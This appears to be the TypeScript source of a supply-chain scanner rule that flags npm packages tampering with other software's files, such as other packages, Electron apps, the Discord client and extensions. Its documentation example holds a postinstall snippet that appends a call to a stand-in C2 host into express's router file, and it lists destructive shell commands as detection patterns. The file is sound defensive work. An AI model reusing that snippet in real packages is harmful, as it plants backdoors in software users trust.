import path from 'node:path';
import type { Node } from '@babel/types';
import { defineRule, type BodyHints, type CallInfo, type FileContext, HOLE, type Evaluator, commandCandidates, normalizeShellPath, pathCandidates, runsOnLoad, shellWriteTargets, writeTarget, installCommandLines } from '../src/engine/api.js';
import { OTHER_SOFTWARE_HINT, OTHER_SOFTWARE_PATHS, nodeModulesPackage } from '../src/engine/catalog.js';
import type { Reach, Severity, Signal } from '../src/types.js';

/** Helper functions that return another package's or application's path. */
const BODY_HINTS: BodyHints = { literals: /node_modules\/|app\.asar|[Ee]xtensions\/|discord_desktop_core|Contents\/Resources\/app/, code: /require\.resolve/ };

/** Calls that change or remove a file in place: the path is their first argument. */
const CHANGE_IN_PLACE = /^(?:fs|fs\.promises|fs-extra|graceful-fs)\.(?:unlink|unlinkSync|rm|rmSync|rmdir|rmdirSync|chmod|chmodSync|truncate|truncateSync|remove|removeSync|emptyDir|emptyDirSync)$|^(?:rimraf|del|trash)(?:\.\w+)?$/;

/** Shell commands that change or remove files in place (targets are their non-option words). */
const SHELL_CHANGE = /^(?:rm|chmod|truncate|shred|unlink|Remove-Item|del)$/i;

interface Victim {
  what: string;
  path: string;
}

/**
 * What another program's path a normalized path reaches, seen from the file at `from` in the
 * package `own`: another package's folder (`node_modules/<other>/…`, `../<other>/…` beside this
 * package, `require.resolve('<other>')`), a global npm package, an Electron app, a browser or
 * editor extension.
 */
export function victimOf(p: string, from: string, own: string | undefined): Victim | undefined {
  if (!OTHER_SOFTWARE_HINT.test(p)) return undefined;
  for (const o of OTHER_SOFTWARE_PATHS) if (o.re.test(p)) return { what: o.label, path: p };
  const pkg = nodeModulesPackage(p);
  if (pkg && pkg !== own) return { what: `the package "${pkg}"`, path: p };
  // Relative to this file: `path.join(__dirname, '..', 'express', 'lib', 'router.js')` from the
  // package root is the sibling package express in the same node_modules folder.
  if (p.startsWith('../') || p.startsWith('./../')) {
    const joined = path.posix.join(path.posix.dirname(from), p);
    const m = /^\.\.\/((?:@[^/*]+\/)?[^/*.][^/*]*)(?:\/|$)/.exec(joined);
    if (m && m[1] !== own && m[1] !== 'node_modules' && !m[1]!.startsWith('..')) return { what: `the package "${m[1]}"`, path: p };
  }
  return undefined;
}

/** `require.resolve('x')`, `path.dirname(require.resolve('x/package.json'))` inside a path expression: `node_modules/x/…`. */
function resolvedPackage(node: Node, ev: Evaluator): string | undefined {
  const stack: Node[] = [node.type === 'Identifier' ? (ev.initOf(node) ?? node) : node];
  for (let budget = 200; stack.length && budget > 0; budget--) {
    const n = stack.pop()!;
    if (n.type === 'CallExpression') {
      const callee = ev.canonical(n.callee);
      if (callee === 'require.resolve' && n.arguments[0]) {
        const spec = ev.foldString(n.arguments[0] as Node);
        const m = spec ? /^((?:@[^/]+\/)?[^/.][^/]*)/.exec(spec) : null;
        if (m) return m[1];
      }
      for (const a of n.arguments) stack.push(a as Node);
      continue;
    }
    for (const k of ['left', 'right', 'expressions', 'object', 'argument'] as const) {
      const c = (n as unknown as Record<string, unknown>)[k];
      if (Array.isArray(c)) for (const x of c) x && typeof (x as Node).type === 'string' && stack.push(x as Node);
      else if (c && typeof (c as Node).type === 'string') stack.push(c as Node);
    }
  }
  return undefined;
}

function judge(reach: Reach, onLoad: boolean): Severity {
  if (reach === 'install') return 'critical';
  if (reach === 'import' && onLoad) return 'high';
  // In a library function or a bin: build tools (electron-builder, asar) and patching tools the
  // user runs (patch-package) do this when asked.
  return 'low';
}

function when(reach: Reach, onLoad: boolean): string {
  return reach === 'install' ? ' at install' : reach === 'import' && onLoad ? ' as soon as it is loaded' : reach === 'bin' ? ' (from a command the user runs)' : '';
}

export default defineRule({
  meta: {
    id: 'tampering',
    title: 'Tampering with other software',
    description:
      "Reports a package changing other software's code: writes, copies, renames, deletes or permission changes into another package's folder (`node_modules/<other>/…`, `../<other>/…` beside it, `require.resolve('<other>')`, the global npm prefix), into other applications (Electron `app.asar` and its unpacked folder, the Discord client's core module, browser extension folders) or into editor extensions, by fs calls or shell commands. The finding names both sides. From install-time code, or code that runs as soon as the package is loaded, this is how backdoors are planted in software the user trusts (critical, high); inside a library function or a bin the user runs (patch-package, asar and Electron build tools) it is low. The user's own tools (~/.npmrc, shell profiles, git hooks) are the persistence rule's.",
    severity: 'high',
    category: 'integrity',
    references: ['https://attack.mitre.org/techniques/T1554/', 'https://attack.mitre.org/techniques/T1195/002/'],
    docs: {
      example: "// postinstall.js\nconst target = path.join(path.dirname(require.resolve('express')), 'lib', 'router', 'index.js');\nfs.appendFileSync(target, \"\\nrequire('https').get('https://c2.invalid/x')\");",
      suppress: 'Turn the rule off for a run with `tollgate scan --disable-rule tampering`; its findings then neither show nor count toward the score.',
    },
  },
  create(pkgCtx) {
    const own = pkgCtx.manifest?.name;
    const seen = new Set<string>();
    const report = (ctx: FileContext, node: Node, v: Victim, verb: string) => {
      const key = `${ctx.path}\0${node.start}`;
      if (seen.has(key)) return;
      seen.add(key);
      const onLoad = runsOnLoad(node);
      const severity = judge(ctx.reach, onLoad);
      const signals: Signal[] = severity === 'critical' || severity === 'high' ? ['tamper'] : [];
      ctx.report({ node, message: `${own ?? 'this package'} ${verb} ${v.what} (${v.path})${when(ctx.reach, onLoad)}`, severity, signals });
    };
    const fromShell = (command: string): { v: Victim; verb: string } | undefined => {
      const targets = shellWriteTargets(command).map((t) => ({ t, verb: 'writes into' }));
      for (const segment of command.split(/\n|;|&&|\|\||\|/)) {
        const words = segment.trim().match(/"[^"]*"|'[^']*'|\S+/g) ?? [];
        if (words[0] && SHELL_CHANGE.test(words[0].split('/').pop()!)) {
          for (const w of words.slice(1)) if (!w.startsWith('-') && !/^[0-7]{3,4}$|^[ugoa]*[+-=][rwxX]+$/.test(w)) targets.push({ t: w.replace(/^["']|["']$/g, ''), verb: /^(?:chmod)$/.test(words[0]) ? 'changes permissions of' : 'deletes files of' });
        }
      }
      for (const { t, verb } of targets) {
        const v = victimOf(normalizeShellPath(t), 'package.json', own);
        if (v) return { v, verb };
      }
      return undefined;
    };
    const checkPath = (call: CallInfo, ctx: FileContext, dest: Node, verb: string): boolean => {
      for (const p of pathCandidates(dest, ctx.evaluator)) {
        const v = victimOf(p, ctx.path, own);
        if (v) {
          report(ctx, call.node, v, verb);
          return true;
        }
      }
      const pkg = resolvedPackage(dest, ctx.evaluator);
      if (pkg && pkg !== own) {
        report(ctx, call.node, { what: `the package "${pkg}"`, path: `require.resolve('${pkg}')…` }, verb);
        return true;
      }
      return false;
    };
    return {
      bodyHints: BODY_HINTS,
      package(ctx) {
        for (const c of installCommandLines(ctx.scripts, ctx.textOf)) {
          const hit = fromShell(c.command);
          if (hit) ctx.report({ file: c.file, evidence: c.evidence, message: `${own ?? 'this package'}'s install script ${hit.verb} ${hit.v.what} (${hit.v.path})`, severity: 'critical', signals: ['tamper'] });
        }
      },
      call(call, ctx) {
        const target = writeTarget(call);
        if (target) {
          const verb = call.callee && /rename|move|copy|cp|symlink/i.test(call.callee.split('.').pop()!) ? 'replaces files of' : 'writes into';
          checkPath(call, ctx, target.dest, verb);
          return;
        }
        if (call.callee && CHANGE_IN_PLACE.test(call.callee)) {
          const arg = call.node.arguments[0];
          if (arg && arg.type !== 'SpreadElement' && arg.type !== 'ArgumentPlaceholder') checkPath(call, ctx, arg, /chmod/.test(call.callee) ? 'changes permissions of' : 'deletes files of');
          return;
        }
        for (const raw of commandCandidates(call, ctx.evaluator)) {
          const hit = fromShell(raw.split(HOLE).join('*'));
          if (hit) return report(ctx, call.node, hit.v, hit.verb);
        }
      },
    };
  },
});
